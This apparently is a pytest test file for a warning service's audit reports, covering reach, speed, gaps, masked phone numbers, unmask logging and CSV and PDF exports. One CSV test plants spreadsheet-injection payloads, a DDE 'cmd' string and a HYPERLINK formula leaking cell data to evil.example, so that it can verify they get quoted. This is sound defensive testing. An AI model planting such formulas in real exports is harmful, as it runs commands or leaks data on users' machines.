"""The auditor's report of an alert: reach per channel and county, speed, gaps, and the CSV log,
with phone numbers masked throughout."""
from __future__ import annotations

import csv
import io
import re
from datetime import date, timedelta

import pytest
from sqlalchemy import func, select, update

from tests.support.console import post_form, published_cancellation, sign_in, waiting_alert
from tests.support.reports import check_pdf_report, failed_sms, published_alert
from warning_service.audit.ledger import verify
from warning_service.audit.period import today_in_beijing
from warning_service.audit.report import mask_phone
from warning_service.extensions import db
from warning_service.models import (
    Alert,
    AuditEvent,
    CapStatus,
    Delivery,
    DeliveryStatus,
    Recipient,
    utcnow,
)


def test_phone_numbers_are_masked_as_auditors_see_them():
    assert mask_phone("+8613812345678") == "138****5678"
    assert mask_phone("+4915112345678") == "+4915****5678"
    assert mask_phone("+123") == "****"


def test_the_report_shows_reach_speed_and_gaps_with_masked_numbers(app, client, people):
    alert_id = published_alert(app, client)
    sign_in(client, "auditor")
    page = client.get(f"/reports/alerts/{alert_id}").get_data(as_text=True)
    sms = db.session.scalars(select(Delivery).where(Delivery.alert_id == alert_id,
                                                    Delivery.channel == "sms")).all()
    failed = next(d for d in sms if d.status == DeliveryStatus.FAILED)
    phone = db.session.get(Recipient, failed.target_id).phone
    assert 'id="reach-sms"' in page and "康定" in page and "泸定" in page
    assert f"<td>{len(sms)}</td>" in page  # targeted, in the total row
    assert mask_phone(phone) in page and phone not in page and phone[3:] not in page
    assert "failed (21211): not a valid phone number" in page
    assert 'id="speed"' in page and " s</td>" in page  # percentiles in seconds
    assert "向上取整到 0.1 秒" in page  # their resolution, said on the page (in Chinese, the default)


def test_the_csv_log_streams_every_delivery_masked_and_the_export_is_in_the_ledger(app, client, people):
    alert_id = published_alert(app, client)
    sign_in(client, "auditor")
    response = client.get(f"/reports/alerts/{alert_id}/deliveries.csv")
    assert response.status_code == 200 and response.is_streamed and response.mimetype == "text/csv"
    rows = list(csv.DictReader(io.StringIO(response.get_data(as_text=True))))
    assert len(rows) == db.session.query(Delivery).filter(Delivery.alert_id == alert_id).count()
    phones = [r.phone for r in db.session.scalars(select(Recipient))]
    body = response.get_data(as_text=True)
    assert not any(phone in body or phone[3:] in body for phone in phones)
    assert {row["target"] for row in rows if row["channel"] == "sms"} <= {mask_phone(phone) for phone in phones}
    exports = db.session.scalars(select(AuditEvent).where(AuditEvent.action == "report.export")).all()
    assert [(e.subject_id, e.detail["masked"]) for e in exports] == [(alert_id, True)]
    assert verify(db.session)[1] is None


def test_csv_cells_a_spreadsheet_would_run_are_quoted(app, client, people):
    """A gateway's code and text are the gateway's to write: a formula among them reaches no spreadsheet."""
    alert_id = published_alert(app, client)
    first = db.session.scalar(select(func.min(Delivery.id)).where(Delivery.alert_id == alert_id))
    hostile = {"gateway_id": "@SUM(1+1)*cmd|' /C calc'!A0", "gateway_code": "-2+3",
               "gateway_text": '=HYPERLINK("http://evil.example/?leak="&A1,"click")'}
    controls = {"gateway_id": "\r=2", "gateway_code": "+1", "gateway_text": "\t=1+1"}
    db.session.execute(update(Delivery).where(Delivery.id == first).values(**hostile))
    db.session.execute(update(Delivery).where(Delivery.alert_id == alert_id, Delivery.id != first).values(**controls))
    db.session.commit()
    sign_in(client, "auditor")
    rows = list(csv.DictReader(io.StringIO(client.get(f"/reports/alerts/{alert_id}/deliveries.csv")
                                           .data.decode("utf-8-sig"))))
    assert len(rows) > 1
    for row in rows:
        wanted = hostile if row["delivery"] == str(first) else controls
        assert {name: row[name] for name in wanted} == {name: "'" + value for name, value in wanted.items()}


def test_the_log_filters_and_only_an_admin_searches_by_number(app, client, people):
    alert_id = published_alert(app, client)
    sign_in(client, "auditor")
    failed_only = client.get(f"/reports/alerts/{alert_id}/log?status=failed&channel=sms").get_data(as_text=True)
    assert failed_only.count('data-status="failed"') == 1 and 'data-status="delivered"' not in failed_only
    assert client.get(f"/reports/alerts/{alert_id}/log?phone=199").status_code == 403
    post_form(client, "/logout", "/")
    sign_in(client, "admin")
    phone = db.session.scalars(select(Recipient.phone).order_by(Recipient.id)).first()
    found = client.get(f"/reports/alerts/{alert_id}/log?phone={phone[-6:]}").get_data(as_text=True)
    assert mask_phone(phone) in found and phone not in found


def test_unmasking_needs_a_reason_and_is_recorded(app, client, people):
    alert_id = published_alert(app, client)
    delivery = db.session.scalars(select(Delivery).where(Delivery.alert_id == alert_id,
                                                         Delivery.channel == "sms")).first()
    phone = db.session.get(Recipient, delivery.target_id).phone
    page = f"/reports/alerts/{alert_id}/log"
    sign_in(client, "auditor")
    assert post_form(client, f"/reports/deliveries/{delivery.id}/unmask", page, reason="a good reason").status_code == 403
    post_form(client, "/logout", "/")
    sign_in(client, "admin")
    assert post_form(client, f"/reports/deliveries/{delivery.id}/unmask", page, reason="why").status_code == 422
    shown = post_form(client, f"/reports/deliveries/{delivery.id}/unmask", page,
                      reason="the recipient called the hotline about this warning")
    assert shown.status_code == 200 and phone in shown.get_data(as_text=True)
    assert shown.headers["Cache-Control"] == "no-store"
    [event] = db.session.scalars(select(AuditEvent).where(AuditEvent.action == "recipient.unmask")).all()
    assert event.actor_type == "user" and event.detail["reason"].startswith("the recipient called")
    assert verify(db.session)[1] is None


def test_townships_have_their_reach_their_gaps_and_their_log(app, client, people):
    alert_id = published_alert(app, client)
    failed, phone = failed_sms(alert_id)
    for recipient in db.session.scalars(select(Recipient)):
        recipient.township_code = recipient.county_code + "001000"
    db.session.get(Recipient, failed.target_id).township_code = failed.county_code + "200000"  # it alone there
    db.session.commit()
    sign_in(client, "auditor")
    page = client.get(f"/reports/alerts/{alert_id}").get_data(as_text=True)
    assert 'id="township-sms"' in page and "513301001000" in page and "513322001000" in page
    gap = re.search(r'<tr class="township-gap">.*?</tr>', page, re.S).group(0)
    assert failed.county_code + "200000" in gap and "001000" not in page.split('id="gaps"')[1].split("</table>")[0]

    found = client.get(f"/reports/alerts/{alert_id}/log?township={failed.county_code}200000").get_data(as_text=True)
    assert found.count('data-status="failed"') == 1 and mask_phone(phone) in found and 'data-status="delivered"' not in found
    assert 'data-channel="sms"' in client.get(f"/reports/alerts/{alert_id}/log?township={failed.county_code}001000").text
    assert 'data-channel="sms"' not in client.get(f"/reports/alerts/{alert_id}/log?township=999999999999").text


def test_the_report_draws_delivery_over_time_without_javascript(app, client, people):
    alert_id = published_alert(app, client)
    sign_in(client, "auditor")
    page = client.get(f"/reports/alerts/{alert_id}").get_data(as_text=True)
    chart = page.split('id="chart-sms"')[1].split("</figure>")[0]
    assert "<svg" in chart and '<polyline class="accepted"' in chart and '<polyline class="delivered"' in chart
    assert re.search(r'class="axis-label">发布（北京时间 [-\d: ]+）后秒数</text>', chart)  # settled in seconds
    assert "<script" not in page.split("</head>")[1]


def test_the_pdf_report_shapes_tibetan_masks_numbers_and_is_in_the_ledger(app, client, people, tmp_path):
    alert_id = published_alert(app, client)
    _, phone = failed_sms(alert_id)
    sign_in(client, "auditor")
    response = client.get(f"/reports/alerts/{alert_id}/report.pdf")
    assert response.status_code == 200 and response.mimetype == "application/pdf"
    assert f"alert-{alert_id}-report.pdf" in response.headers["Content-Disposition"]
    pdf = tmp_path / "report.pdf"
    pdf.write_bytes(response.data)
    check_pdf_report(pdf, phone, tmp_path)
    exports = db.session.scalars(select(AuditEvent).where(AuditEvent.action == "report.export")).all()
    assert [(e.subject_id, e.detail["format"], e.detail["masked"]) for e in exports] == [(alert_id, "pdf", True)]
    assert verify(db.session)[1] is None


def test_the_period_report_lists_the_alert_and_refuses_bad_dates(app, client, people):
    alert_id = published_alert(app, client)
    exercise = waiting_alert(status=CapStatus.EXERCISE)
    db.session.get(Alert, exercise).published_at = utcnow()
    db.session.commit()
    sign_in(client, "auditor")
    page = client.get("/reports/period").get_data(as_text=True)
    actual = page.split('id="actual-alerts"')[1].split("</table>")[0]
    drills = page.split('id="exercise-alerts"')[1].split("</table>")[0]
    assert f"/reports/alerts/{alert_id}\"" in actual and f"/reports/alerts/{exercise}\"" not in actual
    assert f"/reports/alerts/{exercise}\"" in drills and "83.3 %" in actual  # 5 of the 6 deliveries reached
    assert 'id="by-hazard"' in page and 'id="by-county"' in page and "康定" in page
    last = today_in_beijing() - timedelta(days=30)
    response = client.get(f"/reports/period?from={last + timedelta(days=4)}&to={last}")
    assert response.status_code == 400 and "第一天晚于最后一天" in response.get_data(as_text=True)
    assert client.get("/reports/period?from=someday").status_code == 400


def test_the_period_report_marks_a_cancellation_and_does_not_count_it_as_a_warning(app, client, people):
    alert_id = published_alert(app, client)
    cancel = published_cancellation()
    sign_in(client, "auditor")
    page = client.get("/reports/period").get_data(as_text=True)
    actual = page.split('id="actual-alerts"')[1].split("</table>")[0]
    amendments = page.split('id="amendments"')[1].split("</table>")[0]
    assert f"/reports/alerts/{alert_id}\"" in actual and f"/reports/alerts/{cancel.id}\"" not in actual
    assert f"/reports/alerts/{cancel.id}\"" in amendments and '<span class="badge msg-type">撤销</span>' in amendments
    assert re.search(r'<tr id="messages-alert"><td>新预警</td><td>1</td><td>0</td></tr>', page)
    assert re.search(r'<tr id="messages-cancel"><td>撤销</td><td>1</td><td>0</td></tr>', page)
    assert page.split('id="by-hazard"')[1].split("</table>")[0].count("<td>1</td>") == 1


@pytest.mark.parametrize("query", [
    f"from={date.min}&to={date.min}", f"from={date.max}&to={date.max}", f"from={date.min}&to={date.max}",
    f"from={date.max - timedelta(days=3)}&to={date.max}",
    "from=10000-01-01&to=10000-01-02", f"to={date.max.year + 1}-12-31",
])
def test_period_dates_past_the_calendar_answer_400_with_the_reason_in_chinese(app, client, people, query):
    """The Beijing-day bounds of such dates overflow datetime: a 500 before."""
    assert sign_in(client, "auditor").status_code == 302
    response = client.get(f"/reports/period?{query}")
    page = response.get_data(as_text=True)
    assert response.status_code == 400, page
    assert "日期" in page and "Dates are" not in page and "The period" not in page


def test_the_report_of_a_cancellation_says_it_is_one(app, client, people):
    """Its heading carries the message type, as the alert page's does: never read as a new warning."""
    cancel = published_cancellation()
    sign_in(client, "auditor")
    heading = client.get(f"/reports/alerts/{cancel.id}").get_data(as_text=True).split("<h1>")[1].split("</h1>")[0]
    assert re.search(r'<b class="badge msg-type" data-msg-type="Cancel">撤销</b>', heading), heading
